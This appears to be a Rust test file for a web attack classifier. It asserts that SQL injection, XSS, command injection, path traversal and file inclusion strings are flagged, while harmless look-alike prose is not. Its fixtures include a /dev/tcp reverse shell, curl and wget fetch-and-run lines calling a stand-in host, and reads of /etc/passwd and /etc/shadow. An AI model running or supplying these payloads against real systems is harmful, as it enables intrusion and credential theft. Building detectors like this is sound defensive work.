//! Requests of our own, about ten of each kind, and as many that only look like it.

mod example;
mod other;

use super::*;
use WebClass::*;

fn classes(target: &str) -> Vec<WebClass> {
    classify(&Request { method: "GET", target, ..Request::default() })
        .into_iter()
        .map(|finding| finding.class)
        .collect()
}

/// Asserts that the first finding for each value of a parameter is of a class.
fn first_is(class: WebClass, parameter: &str, values: &[&str]) {
    for value in values {
        let target = format!("/page?{parameter}={}", escape(value));
        assert_eq!(classes(&target).first(), Some(&class), "{value}");
    }
}

/// Asserts that the values of a parameter raise nothing.
fn nothing_in(parameter: &str, values: &[&str]) {
    for value in values {
        let target = format!("/page?{parameter}={}", escape(value));
        let findings = classify(&Request { method: "GET", target: &target, ..Request::default() });
        assert!(findings.is_empty(), "{value}: {findings:?}");
    }
}

fn escape(value: &str) -> String {
    value
        .bytes()
        .map(|byte| {
            if byte.is_ascii_alphanumeric() {
                char::from(byte).to_string()
            } else {
                format!("%{byte:02X}")
            }
        })
        .collect()
}

#[test]
fn sql_that_leaves_its_value_is_found() {
    first_is(
        SqlInjection,
        "id",
        &[
            "7' OR 'a'='a",
            "7 or 3=3",
            "7) and (4=4",
            "x' union all select null,null-- -",
            "0 UNION/**/SELECT/**/mail,hash/**/FROM/**/people",
            "7;drop table orders",
            "7 and sleep(3)",
            "root'--",
            "7 order by 9",
            "7 and (select count(*) from orders)>0",
            "1 and substr(sqlite_version(),1,1)='3'",
            "'; waitfor delay '0:0:4'--",
            "7 and extractvalue(1,concat(0x7e,version()))",
            "7 union select name from sqlite_master",
            "7 procedure analyse()",
            "x\" or \"\"=\"",
        ],
    );
}

#[test]
fn prose_with_words_of_sql_is_no_attack() {
    nothing_in(
        "q",
        &[
            "union jack flag",
            "union select committee",
            "select a chair from the list",
            "drop by the table",
            "be quiet or else",
            "O'Brien",
            "rock 'n' roll and blues",
            "\"black\" and \"white\"",
            "dogs' and cats' food",
            "5 or 6 people",
            "where to order by phone",
            "insert coin; update your profile",
            "the case when nothing works then",
            "like it or not",
            "table for two having fun",
            "1 and 2",
            "order by friday",
            "John's cafe -- the best",
            "screen 13\" or 15\"",
            "delete from basket",
        ],
    );
}

#[test]
fn script_for_other_visitors_is_found() {
    first_is(
        Xss,
        "q",
        &[
            "<script>alert(5)</script>",
            "<ScRiPt src=//a.example/b.js>",
            "<img src=q onerror=prompt(5)>",
            "\"><svg/onload=confirm(5)>",
            "' autofocus onfocus=alert(5) x='",
            "javascript:alert(5)",
            "<a href=\"java\tscript:alert(5)\">x</a>",
            "'-confirm(5)-'",
            "<iframe srcdoc='<b>'>",
            "<body onpageshow=alert(5)>",
            "<details open ontoggle=alert(5)>",
            "%3Cscript%3Ealert(5)%3C/script%3E",
            "&lt;script&gt;alert(5)&lt;/script&gt;",
            "\\u003cscript\\u003ealert(5)",
            "<object data=\"data:text/html,x\">",
        ],
    );
}

#[test]
fn harmless_signs_of_markup_are_no_attack() {
    nothing_in(
        "q",
        &[
            "a < b and c > d",
            "<anna@mail.example>",
            "i <3 you",
            "<b>bold</b>",
            "<a href=\"/help.html\">help</a>",
            "alert levels",
            "confirm (please)",
            "on monday = closed",
            "javascript: the good parts",
            "document. cookie recipes",
            "script for a play",
            "<table border=1>",
            "x<y",
            "the <enter name here> field",
            "onion = vegetable",
        ],
    );
}

#[test]
fn commands_for_the_shell_are_found() {
    first_is(
        CommandInjection,
        "host",
        &[
            "8.8.8.8;id",
            "8.8.8.8|whoami",
            "8.8.8.8&&uname -a",
            "$(id)",
            "`id`",
            "8.8.8.8\nid",
            ";wget http://a.example/x.sh",
            "|cat${IFS}/etc/hosts",
            "8.8.8.8;c'a't /etc/passwd",
            ";bash -i >& /dev/tcp/8.8.8.8/99 0>&1",
            "; sleep 4",
            ";python3 -c 'import os'",
            "||ping -c 4 8.8.8.8",
            "x;curl http://a.example/|sh",
            "() { :; }; /bin/id",
            ";/bin/c?t /e?c/p?sswd",
            "& dir c:\\",
            "system('id')",
            ";{echo,hi}",
        ],
    );
}

#[test]
fn an_unescaped_ampersand_does_not_hide_a_command() {
    assert_eq!(classes("/ping/?host=8.8.8.8&&id").first(), Some(&CommandInjection));
    assert_eq!(
        classes("/ping/?host=8.8.8.8&&cat%20/etc/hosts&x=1").first(),
        Some(&CommandInjection)
    );
    assert!(classes("/list?page=2&&id=5&sort=asc").is_empty());
}

#[test]
fn prose_with_commands_and_separators_is_no_attack() {
    nothing_in(
        "q",
        &[
            "find the cat; more later",
            "salt & pepper",
            "tea | coffee",
            "sort of; kind of",
            "we went; who knows",
            "red;green;blue",
            "AT&T",
            "time flies; sleep well",
            "ls 400 price",
            "the `best` words",
            "price $(usd)",
            "cut & paste",
            "top 10; best of",
            "echo and the bunnymen",
            "id card",
            "which host?",
            "head; shoulders",
            "R&D; test it",
            "x > y",
            "C:\\ drive",
        ],
    );
}

#[test]
fn paths_that_climb_or_name_system_files_are_found() {
    first_is(
        PathTraversal,
        "file",
        &[
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "....//....//etc/shadow",
            "/etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f%2e%2e%2fetc/hosts",
            "/proc/self/environ",
            "..%c0%af..%c0%afetc/passwd",
            "c:\\boot.ini",
            "/var/log/auth.log",
            "../secret.txt",
            "..;/..;/conf",
        ],
    );
    first_is(
        FileInclusion,
        "page",
        &[
            "php://filter/read=convert.base64-encode/resource=a.php",
            "http://a.example/x.txt?",
            "expect://id",
            "phar://a.jpg/b",
            "data:text/plain;base64,PD9waHA=",
            "file:///srv/secret",
            "ftp://a.example/x",
        ],
    );
    assert_eq!(classes("/static/../../../../etc/passwd"), [PathTraversal]);
    assert_eq!(classes("/static/%2e%2e/%2e%2e/etc/passwd"), [PathTraversal]);
}

#[test]
fn ordinary_paths_are_no_attack() {
    nothing_in(
        "file",
        &[
            "report.pdf",
            "2024/05/a.png",
            "a..b",
            "etc",
            "docs/etc/notes",
            "v1.2...v1.3",
            "../",
            "wait...",
            "images/",
            "/en/about",
        ],
    );
    for target in [
        "/etc/designs/a.css",
        "/compare/v0.1...v0.2",
        "/a/b/c.tar.gz",
        "/proc/",
        "/var/x",
        "/windows/help.html",
        "/~anna/",
    ] {
        assert!(classes(target).is_empty(), "{target}");
    }
}
